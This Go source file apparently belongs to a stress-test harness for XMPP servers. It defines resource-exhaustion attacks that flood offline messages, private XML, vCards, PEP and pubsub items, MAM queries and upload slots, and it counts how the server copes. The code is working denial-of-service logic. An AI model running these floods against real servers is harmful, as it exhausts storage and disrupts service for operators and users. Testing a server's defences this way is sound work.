package main

import (
	"fmt"
	"strconv"
	"strings"
	"sync/atomic"
	"time"
)

// storeAttacks fill what the server keeps for accounts: offline messages,
// private XML, vCards, PEP and the pubsub service, the archive, upload
// slots.
func storeAttacks() []attack {
	return []attack{
		{"offline-flood", "200 senders over 200 addresses sending 100 KB messages to 1,000 offline accounts", func(e *env) (string, error) {
			// The targets must exist: log each in once (from their own
			// addresses) and out again.
			e.sessions(1000, 250, func(i int) string { return "off" + strconv.Itoa(i) }, func(int) string { return "o" }, false, false)
			e.closeAll()
			body := strings.Repeat("o", 100<<10)
			return looped(e, 200, 200, func(s *session, k int64) error {
				return s.send("<message type='chat' to='off" + strconv.FormatInt(k%1000, 10) + "@" + e.domain + "'><body>" + body + "</body></message>")
			})
		}},
		{"private-xml-quota", "200 accounts storing 100 KB private XML elements under ever new namespaces", func(e *env) (string, error) {
			data := strings.Repeat("p", 100<<10)
			return looped(e, 200, 200, func(s *session, k int64) error {
				return s.send("<iq type='set' id='p" + strconv.FormatInt(k, 10) + "'><query xmlns='jabber:iq:private'><x xmlns='urn:attack:" + strconv.FormatInt(k, 10) + "'>" + data + "</x></query></iq>")
			})
		}},
		{"vcard-quota", "200 accounts setting 250 KB vCards over and over", func(e *env) (string, error) {
			data := strings.Repeat("v", 250<<10)
			return looped(e, 200, 200, func(s *session, k int64) error {
				return s.send("<iq type='set' id='v" + strconv.FormatInt(k, 10) + "'><vCard xmlns='vcard-temp'><DESC>" + data + "</DESC></vCard></iq>")
			})
		}},
		{"pep-publish-flood", "200 accounts publishing 100 KB PEP items to ever new nodes and item ids", func(e *env) (string, error) {
			data := strings.Repeat("e", 100<<10)
			return looped(e, 200, 200, func(s *session, k int64) error {
				n := strconv.FormatInt(k, 10)
				return s.send("<iq type='set' id='e" + n + "'><pubsub xmlns='http://jabber.org/protocol/pubsub'><publish node='urn:attack:" + strconv.FormatInt(k%50, 10) + "'><item id='i" + n + "'><x xmlns='urn:attack'>" + data + "</x></item></publish></pubsub></iq>")
			})
		}},
		{"pubsub-service-flood", "200 accounts creating nodes on pubsub." + "<domain> and publishing 100 KB items", func(e *env) (string, error) {
			data := strings.Repeat("s", 100<<10)
			return looped(e, 200, 200, func(s *session, k int64) error {
				n := strconv.FormatInt(k, 10)
				return s.send("<iq type='set' id='c" + n + "' to='pubsub." + e.domain + "'><pubsub xmlns='http://jabber.org/protocol/pubsub'><create node='n" + n + "'/></pubsub></iq>" +
					"<iq type='set' id='e" + n + "' to='pubsub." + e.domain + "'><pubsub xmlns='http://jabber.org/protocol/pubsub'><publish node='n" + strconv.FormatInt(k-1, 10) + "'><item id='i" + n + "'><x xmlns='urn:attack'>" + data + "</x></item></publish></pubsub></iq>")
			})
		}},
		{"mam-query-flood", "100 accounts filling their archives with 10 KB messages, then 100 non-reading sessions querying them at line rate", func(e *env) (string, error) {
			return mamFlood(e)
		}},
		{"upload-slot-flood", "200 accounts over 200 addresses requesting XEP-0363 upload slots of the largest size as fast as the server reads, reading the replies", uploadFlood},
	}
}

func mamFlood(e *env) (string, error) {
	body := strings.Repeat("a", 10<<10)
	fill := e.sessions(100, 100, func(i int) string { return "mam" + strconv.Itoa(i) }, func(int) string { return "m" }, false, true)
	half, cancel := time.Now().Add(2*time.Second), func() {}
	_ = cancel
	var sent atomic.Int64
	e.parallel(len(fill), func(i int) {
		s := fill[i]
		for time.Now().Before(half) && !e.done() {
			if s.send(strings.Repeat("<message type='chat' to='"+s.jid+"'><body>"+body+"</body></message>", 10)) != nil {
				return
			}
			sent.Add(10)
		}
	})
	note, err := nonReadingAs(e, 100, 100, func(i int) string { return "mam" + strconv.Itoa(i) }, func(k int64) string {
		return "<iq type='set' id='q" + strconv.FormatInt(k, 10) + "'><query xmlns='urn:xmpp:mam:2' queryid='q'/></iq>"
	})
	return fmt.Sprintf("archived %d, ", sent.Load()) + note, err
}

// nonReadingAs is nonReading with account names from name.
func nonReadingAs(e *env, n, nIPs int, name func(int) string, chunk func(k int64) string) (string, error) {
	var k, cut atomic.Int64
	e.parallel(n, func(i int) {
		for !e.done() {
			s, err := e.login(ip(i%nIPs), name(i), "", true)
			if err != nil {
				time.Sleep(50 * time.Millisecond)
				continue
			}
			for !e.done() {
				if err := s.send(chunk(k.Add(1))); err != nil {
					if !e.done() {
						cut.Add(1)
					}
					break
				}
			}
			s.nc.Close()
		}
	})
	return e.counts() + fmt.Sprintf(", server cut %d", cut.Load()), nil
}
